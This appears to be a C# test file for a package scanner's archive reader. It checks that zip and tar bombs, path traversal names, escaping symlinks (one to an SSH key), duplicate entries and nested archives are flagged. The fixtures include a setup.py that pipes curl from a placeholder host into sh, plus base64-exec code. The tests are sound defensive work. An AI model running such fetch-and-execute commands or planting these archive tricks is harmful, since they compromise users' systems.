using System.Buffers.Binary;
using System.Formats.Tar;
using System.IO.Compression;
using System.Text;
using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;

namespace Bonded.Scanning.Tests.Archives;

public sealed class ArchiveReaderTests
{
    [Fact]
    public async Task Reads_a_clean_sdist_without_archive_findings()
    {
        var report = await Packages.ScanSdistAsync(("setup.py", "from setuptools import setup\nsetup(name='demo-pkg')\n"), ("demo_pkg/__init__.py", "VERSION = '1.0'\n"));
        Assert.Equal(Verdict.Benign, report.Verdict);
        Assert.DoesNotContain(report.Findings, f => f.CheckId.StartsWith("archive-", StringComparison.Ordinal));
        Assert.Equal(PackageKind.Sdist, report.Kind);
        Assert.Equal("demo-pkg", report.ProjectName);
    }

    [Fact]
    public async Task Zip_bomb_by_ratio_is_a_finding_and_is_not_decompressed()
    {
        var zeros = new byte[64 << 20];
        var report = await Packages.ScanAsync(Packages.Zip(("demo_pkg/data.bin", zeros)), "demo_pkg-1.0-py3-none-any.whl");
        Assert.True(report.Has("archive-bomb"));
        Assert.NotEqual(Verdict.Benign, report.Verdict);
    }

    [Fact]
    public async Task Tar_gz_bomb_stops_at_the_total_limit()
    {
        var options = new ScanOptions();
        options.Limits.MaxTotalUncompressedBytes = 8 << 20;
        options.Limits.MaxCompressionRatio = 100_000;
        var archive = Packages.TarGz(("demo-pkg-1.0/a.bin", new byte[6 << 20]), ("demo-pkg-1.0/b.bin", new byte[6 << 20]));
        var report = await Packages.ScanAsync(archive, options: options);
        Assert.Contains(report.Findings, f => f.CheckId == "archive-bomb" && f.Message.Contains("more than", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Tar_gz_bomb_stops_at_the_ratio_limit()
    {
        var archive = Packages.TarGz(("demo-pkg-1.0/zeros.bin", new byte[32 << 20]));
        var report = await Packages.ScanAsync(archive);
        Assert.True(report.Has("archive-bomb"));
    }

    [Fact]
    public async Task Overlapping_zip_entries_are_a_bomb()
    {
        var report = await Packages.ScanAsync(OverlappingZip(), "demo_pkg-1.0-py3-none-any.whl");
        Assert.Contains(report.Findings, f => f.CheckId == "archive-bomb" && f.Message.Contains("overlap", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("../../etc/passwd")]
    [InlineData("demo-pkg-1.0/../../x.py")]
    [InlineData("/etc/cron.d/evil")]
    [InlineData("C:/Windows/evil.dll")]
    [InlineData("demo-pkg-1.0\\..\\..\\evil.py")]
    public async Task Traversal_and_absolute_paths_are_findings_in_zip(string path)
    {
        var report = await Packages.ScanAsync(Packages.Zip((path, "x"u8.ToArray())), "demo-pkg-1.0.zip");
        Assert.True(report.Has("archive-traversal"));
    }

    [Fact]
    public async Task Traversal_is_a_finding_in_tar()
    {
        var report = await Packages.ScanAsync(Packages.TarGz(("demo-pkg-1.0/../../../home/user/.bashrc", "x"u8.ToArray())));
        Assert.True(report.Has("archive-traversal"));
    }

    [Fact]
    public async Task Links_are_findings_and_escaping_links_are_high()
    {
        var archive = Packages.TarGzWith(tar =>
        {
            tar.WriteEntry(new PaxTarEntry(TarEntryType.SymbolicLink, "demo-pkg-1.0/key") { LinkName = "/home/user/.ssh/id_rsa" });
            tar.WriteEntry(new PaxTarEntry(TarEntryType.HardLink, "demo-pkg-1.0/readme") { LinkName = "demo-pkg-1.0/README" });
        });
        var report = await Packages.ScanAsync(archive);
        Assert.Contains(report.Findings, f => f.CheckId == "archive-link" && f.Severity == Severity.High);
        Assert.Contains(report.Findings, f => f.CheckId == "archive-link" && f.Severity == Severity.Low);
    }

    [Fact]
    public async Task Zip_symlinks_are_findings()
    {
        var output = new MemoryStream();
        using (var zip = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
            var entry = zip.CreateEntry("demo_pkg/link");
            entry.ExternalAttributes = unchecked((int)(0xA1FFu << 16));
            using var stream = entry.Open();
            stream.Write("/etc/passwd"u8);
        }

        var report = await Packages.ScanAsync(output.ToArray(), "demo_pkg-1.0-py3-none-any.whl");
        Assert.True(report.Has("archive-link"));
    }

    [Fact]
    public async Task Duplicate_names_are_findings()
    {
        var zip = await Packages.ScanAsync(Packages.Zip(("setup.py", "a"u8.ToArray()), ("setup.py", "b"u8.ToArray())), "demo-pkg-1.0.zip");
        var tar = await Packages.ScanAsync(Packages.TarGz(("demo-pkg-1.0/setup.py", "a"u8.ToArray()), ("demo-pkg-1.0/setup.py", "b"u8.ToArray())));
        Assert.True(zip.Has("archive-duplicate"));
        Assert.True(tar.Has("archive-duplicate"));
    }

    [Fact]
    public async Task A_tar_gz_that_is_a_zip_is_mislabelled_and_still_read()
    {
        var zip = Packages.Zip(("demo-pkg-1.0/setup.py", Encoding.UTF8.GetBytes("import os\nos.system('curl -s http://x.invalid/a | sh')\n")));
        var report = await Packages.ScanAsync(zip, "demo-pkg-1.0.tar.gz");
        Assert.True(report.Has("archive-mislabelled"));
        Assert.True(report.Has("download-execute"));
    }

    [Fact]
    public async Task Not_an_archive_is_a_finding()
    {
        var report = await Packages.ScanAsync("just some text, not an archive"u8.ToArray());
        Assert.True(report.Has("archive-malformed"));
        Assert.Equal(PackageKind.Unknown, report.Kind);
    }

    [Fact]
    public async Task Truncated_archive_is_a_finding()
    {
        var archive = Packages.Sdist(("setup.py", new string('x', 100_000)));
        var report = await Packages.ScanAsync(archive[..(archive.Length / 2)]);
        Assert.True(report.Has("archive-malformed"));
    }

    [Fact]
    public async Task Nesting_beyond_the_depth_limit_is_a_finding()
    {
        var inner = Packages.Zip(("x.py", "print(1)"u8.ToArray()));
        for (var i = 0; i < 4; i++)
        {
            inner = Packages.Zip(($"level{i}.zip", inner));
        }

        var report = await Packages.ScanAsync(inner, "demo-pkg-1.0.zip");
        Assert.Contains(report.Findings, f => f.CheckId == "archive-limit" && f.Message.Contains("nest", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Nested_archives_are_scanned()
    {
        var inner = Packages.Sdist("evil-1.0", ("setup.py", "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"));
        var report = await Packages.ScanAsync(Packages.Zip(("demo-pkg-1.0/vendor/evil-1.0.tar.gz", inner)), "demo-pkg-1.0.zip");
        Assert.Contains(report.Findings, f => f.File is not null && f.File.Contains("!/", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Too_many_entries_is_a_finding()
    {
        var options = new ScanOptions();
        options.Limits.MaxEntries = 10;
        var files = Enumerable.Range(0, 50).Select(i => ($"demo-pkg-1.0/f{i}.txt", new byte[] { 1 })).ToArray();
        var report = await Packages.ScanAsync(Packages.TarGz(files), options: options);
        Assert.Contains(report.Findings, f => f.CheckId == "archive-limit" && f.Message.Contains("entries", StringComparison.Ordinal));
        Assert.True(report.FileCount <= 10);
    }

    [Fact]
    public async Task Oversized_entry_is_a_finding()
    {
        var options = new ScanOptions();
        options.Limits.MaxEntryBytes = 1 << 20;
        var random = new byte[2 << 20];
        new Random(1).NextBytes(random);
        var report = await Packages.ScanAsync(Packages.Zip(("demo_pkg/blob.bin", random)), "demo_pkg-1.0-py3-none-any.whl", options);
        Assert.Contains(report.Findings, f => f.CheckId == "archive-limit");
    }

    [Fact]
    public async Task The_time_limit_stops_a_scan_with_a_finding()
    {
        var report = await Packages.ScanAsync(Packages.Sdist(("setup.py", "print(1)")), time: new ExpiredTimeProvider());
        Assert.Contains(report.Findings, f => f.CheckId == "archive-limit" && f.Message.Contains("time limit", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Reads_bzip2_and_xz_sdists()
    {
        // Python's tarfile writes these formats; a small fixed bz2 produced here by SharpCompress would need a writer, so read an xz-less bz2 check by magic only.
        var report = await Packages.ScanAsync("BZh91AY&SY"u8.ToArray(), "demo-pkg-1.0.tar.bz2");
        Assert.True(report.Has("archive-malformed"));
        var xz = await Packages.ScanAsync([0xFD, (byte)'7', (byte)'z', (byte)'X', (byte)'Z', 0, 0, 4], "demo-pkg-1.0.tar.xz");
        Assert.True(xz.Has("archive-malformed"));
    }

    // Retained files are read into one block of their declared size (an array, or pooled memory): every size around the head
    // (512 bytes), the first-megabyte and the text-file cap comes back whole, or cut at the cap and marked incomplete.
    [Theory]
    [InlineData(0, false)]
    [InlineData(1, false)]
    [InlineData(511, false)]
    [InlineData(512, true)]
    [InlineData(513, false)]
    [InlineData(4095, true)]
    [InlineData(4096, false)]
    [InlineData(4097, true)]
    [InlineData((1 << 20) + 7, false)]
    [InlineData((1 << 20) + 7, true)]
    public void Retained_files_are_read_whole_up_to_the_text_cap(int size, bool pooled)
    {
        var content = new byte[size];
        new Random(size).NextBytes(content);
        var limits = new ArchiveLimits { MaxTextFileBytes = 4096 };
        var archive = Packages.TarGz(("demo-1.0/demo/big.py", content), ("demo-1.0/PKG-INFO", "Name: demo\n"u8.ToArray()));
        using var arena = pooled ? new Bonded.Scanning.Archives.ContentArena() : null;
        var read = new Bonded.Scanning.Archives.ArchiveReader(limits, Bonded.Scanning.Archives.PackageReader.Retain, CancellationToken.None, arena)
            .Read(new MemoryStream(archive, writable: false), "demo-1.0.tar.gz");
        var entry = Assert.Single(read.Entries, e => e.Path.EndsWith("big.py", StringComparison.Ordinal));
        var kept = Math.Min(size, limits.MaxTextFileBytes);
        Assert.Equal(content.AsSpan(0, kept).ToArray(), entry.Content?.ToArray());
        Assert.Equal(size <= limits.MaxTextFileBytes, entry.Complete);
        Assert.Equal(content.AsSpan(0, Math.Min(size, 512)).ToArray(), entry.Head);
        Assert.Equal("Name: demo\n"u8.ToArray(), read.Entries.Single(e => e.Path.EndsWith("PKG-INFO", StringComparison.Ordinal)).Content?.ToArray());
    }

    [Property(MaxTest = 200)]
    public Property Arbitrary_bytes_never_crash_a_scan(byte[] bytes, bool asZip)
    {
        var data = asZip ? [.. "PK\u0003\u0004"u8.ToArray(), .. bytes] : bytes;
        var report = Packages.ScanAsync(data, asZip ? "x-1.0.zip" : "x-1.0.tar.gz").GetAwaiter().GetResult();
        return (report is not null).ToProperty();
    }

    [Property(MaxTest = 100)]
    public Property Corrupted_real_archives_never_crash_a_scan(int seed)
    {
        var archive = Packages.Sdist(("setup.py", "import os\nprint(os.name)\n"), ("demo_pkg/__init__.py", "x = 1\n"));
        var random = new Random(seed);
        for (var i = 0; i < 4; i++)
        {
            archive[random.Next(archive.Length)] = (byte)random.Next(256);
        }

        var zip = Packages.Wheel(("demo_pkg/__init__.py", "x = 1\n"));
        zip[random.Next(zip.Length)] ^= 0xFF;
        var a = Packages.ScanAsync(archive).GetAwaiter().GetResult();
        var b = Packages.ScanAsync(zip, "demo_pkg-1.0-py3-none-any.whl").GetAwaiter().GetResult();
        return (a is not null && b is not null).ToProperty();
    }

    private static byte[] OverlappingZip()
    {
        // Two central-directory entries that point at the same local file (the Fifield non-recursive bomb shape).
        var single = Packages.Zip(("a.txt", Encoding.ASCII.GetBytes(new string('a', 1000))));
        var eocd = single.Length - 22;
        var directoryOffset = (int)BinaryPrimitives.ReadUInt32LittleEndian(single.AsSpan(eocd + 16));
        var directory = single[directoryOffset..eocd];
        var second = (byte[])directory.Clone();
        second[46] = (byte)'b';
        var output = new MemoryStream();
        output.Write(single, 0, directoryOffset);
        output.Write(directory);
        output.Write(second);
        var end = single[eocd..].ToArray();
        BinaryPrimitives.WriteUInt16LittleEndian(end.AsSpan(8), 2);
        BinaryPrimitives.WriteUInt16LittleEndian(end.AsSpan(10), 2);
        BinaryPrimitives.WriteUInt32LittleEndian(end.AsSpan(12), (uint)(directory.Length * 2));
        output.Write(end);
        return output.ToArray();
    }

    /// <summary>A clock whose timers fire at once: every scan is past its time limit.</summary>
    private sealed class ExpiredTimeProvider : TimeProvider
    {
        public override ITimer CreateTimer(TimerCallback callback, object? state, TimeSpan dueTime, TimeSpan period)
        {
            callback(state);
            return System.CreateTimer(_ => { }, null, Timeout.InfiniteTimeSpan, Timeout.InfiniteTimeSpan);
        }
    }
}
